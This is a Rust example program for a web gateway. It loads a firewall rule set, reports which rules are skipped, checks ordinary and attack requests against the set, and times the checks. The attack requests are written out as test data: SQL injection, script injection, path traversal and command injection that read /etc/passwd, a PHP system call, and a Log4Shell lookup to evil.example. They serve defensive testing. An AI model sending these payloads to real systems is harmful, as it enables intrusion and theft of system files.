//! What a rule set says of ordinary requests and of attacks, which of its rules are left out, and
//! what an evaluation costs:
//!
//! ```text
//! cargo run --release -p seaworthy-policy --example core_rule_set -- crs-setup.conf rules
//! ```

use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::time::{Duration, Instant};

use http::{HeaderMap, HeaderValue, header};
use seaworthy_policy::crs::{Input, InputBody, RuleFile, RuleModes, RuleSet, Why};

const RUNS: usize = 1001;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut texts: Vec<(String, Vec<u8>)> = Vec::new();
    for path in std::env::args().skip(1) {
        read(Path::new(&path), &mut texts)?;
    }
    let files: Vec<_> = texts.iter().map(|(name, text)| RuleFile { name, text }).collect();
    let started = Instant::now();
    let set = RuleSet::read(&files, &RuleModes::new()).map_err(|faults| {
        let faults: Vec<_> = faults.iter().map(ToString::to_string).collect();
        faults.join("\n")
    })?;
    let took = started.elapsed().as_millis();
    println!("{} rules that find something, read in {took} ms", set.findings_count());
    for (why, words) in [
        (Why::Pattern, "patterns for another engine"),
        (Why::Variables, "variables that are not known"),
        (Why::Detector, "left to the gateway's own detection"),
    ] {
        let ids = set.left_out().iter().filter(|rule| rule.why == why);
        let ids: Vec<_> = ids.map(|rule| rule.id.to_string()).collect();
        println!("left out, {words}: {}", ids.join(" "));
    }
    let (json, form) = bodies();
    println!("\n| request | denied | rules |\n|---|---|---|");
    for (name, method, target, kind, body) in [
        ("a page", "GET", "/", "", ""),
        ("a search", "GET", "/search?q=hello+world&limit=20", "", ""),
        ("a name with an apostrophe", "GET", "/search?q=O%27Reilly+and+sons", "", ""),
        ("numbers in prose", "GET", "/search?q=2+or+3+tickets%2C+1+and+2", "", ""),
        ("JSON of 270 bytes", "POST", "/api/tickets", JSON, &*json),
        ("a form of 1 kB", "POST", "/tickets", FORM, &*form),
        ("JSON with umlauts", "POST", "/api/tickets", JSON, r#"{"text":"größe – ja, 100 %"}"#),
        ("JSON by PUT", "PUT", "/api/tickets/1", JSON, "{}"),
        ("JSON by PATCH", "PATCH", "/api/tickets/1", JSON, "{}"),
        ("a deletion", "DELETE", "/api/tickets/1", "", ""),
        ("SQL in a query", "GET", "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20", "", ""),
        ("SQL in a form", "POST", "/tickets", FORM, "a=1%27+UNION+SELECT+a%2Cb+FROM+users--+"),
        ("SQL in JSON", "POST", "/api", JSON, r#"{"a":"1' UNION SELECT a,b FROM users -- "}"#),
        ("a script in a query", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", ""),
        ("a script in JSON", "POST", "/api", JSON, r#"{"a":"<script>alert(1)</script>"}"#),
        ("a path to a file", "GET", "/get?file=../../../../etc/passwd", "", ""),
        ("a command", "GET", "/get?a=;cat%20/etc/passwd", "", ""),
        ("PHP", "GET", "/get?a=%3C?php%20system(%27id%27);", "", ""),
        ("Log4Shell", "GET", "/get?a=$%7Bjndi:ldap://evil.example/a%7D", "", ""),
        ("a file of the developers", "GET", "/.env", "", ""),
    ] {
        let headers = headers(kind);
        let judged = set.judge(&input(method, target, &headers, body.as_bytes()))?;
        let ids: Vec<_> = judged.found.iter().map(u64::to_string).collect();
        println!("| {name} | {} | {} |", if judged.denied { "yes" } else { "no" }, ids.join(" "));
    }
    println!("\n| request | median µs | p99 µs |\n|---|---|---|");
    let (pairs, long) = ("ab=c&".repeat(999) + "ab=c", format!("a={}", "b'c ".repeat(32_000)));
    for (name, method, kind, body, runs) in [
        ("a GET", "GET", "", "", RUNS),
        ("a JSON POST of 270 bytes", "POST", JSON, &*json, RUNS),
        ("a form of 1 kB", "POST", FORM, &*form, RUNS),
        ("a form of 1,000 parameters in 5 kB", "POST", FORM, &*pairs, RUNS / 20),
        ("a form of one value of 128 kB", "POST", FORM, &*long, RUNS / 20),
    ] {
        let headers = headers(kind);
        let input = input(method, "/api/tickets", &headers, body.as_bytes());
        let mut times: Vec<Duration> = (0..runs)
            .map(|_| {
                let started = Instant::now();
                black_box(set.judge(black_box(&input)).is_ok());
                started.elapsed()
            })
            .collect();
        times.sort();
        let (median, p99) = (times[runs / 2].as_micros(), times[runs * 99 / 100].as_micros());
        println!("| {name} | {median} | {p99} |");
    }
    Ok(())
}

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";

/// Ordinary bodies of the sizes that the manual's figures are for.
fn bodies() -> (String, String) {
    let prose = "Somebody please bring some more; we need it for the meeting at nine. ";
    let mut json = format!(
        "{{\"subject\":\"The printer is out of paper\",\"priority\":3,\"tags\":[\"office\",\"printer\"],\"text\":\"{prose}{prose}"
    );
    json.truncate(268);
    json.push_str("\"}");
    let mut form = "subject=The+printer+is+out+of+paper&priority=3&text=".to_owned();
    while form.len() < 1000 {
        form.push_str("Somebody+please+bring+some+more%2C+");
    }
    form.truncate(1000);
    (json, form)
}

fn headers(kind: &'static str) -> HeaderMap {
    let mut headers = HeaderMap::new();
    for (name, value) in [
        (header::HOST, "app.example"),
        (
            header::USER_AGENT,
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        ),
        (header::ACCEPT, "application/json, text/html;q=0.9"),
        (header::ACCEPT_LANGUAGE, "en,de;q=0.5"),
        (header::COOKIE, "session=0123456789abcdef; theme=dark"),
        (header::CONTENT_TYPE, kind),
    ] {
        if !value.is_empty() {
            headers.insert(name, HeaderValue::from_static(value));
        }
    }
    headers
}

fn input<'a>(
    method: &'a str,
    target: &'a str,
    headers: &'a HeaderMap,
    body: &'a [u8],
) -> Input<'a> {
    let client = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7));
    Input {
        client,
        method,
        target,
        authority: "app.example",
        headers,
        body: InputBody::Plain(body),
    }
}

/// Adds the file `path`, or those in it, as the gateway reads them.
fn read(path: &Path, texts: &mut Vec<(String, Vec<u8>)>) -> std::io::Result<()> {
    if path.is_dir() {
        let mut paths: Vec<_> = std::fs::read_dir(path)?
            .map(|entry| entry.map(|entry| entry.path()))
            .collect::<Result<_, _>>()?;
        paths.sort();
        let wanted =
            |path: &Path| path.extension().is_some_and(|end| end == "conf" || end == "data");
        for path in paths.iter().filter(|path| wanted(path)) {
            read(path, texts)?;
        }
        return Ok(());
    }
    let name = path.file_name().unwrap_or_default().to_string_lossy();
    let listed = name.ends_with(".conf") || name.ends_with(".data");
    let name = if listed { name.into_owned() } else { format!("{name}.conf") };
    texts.push((name, std::fs::read(path)?));
    Ok(())
}
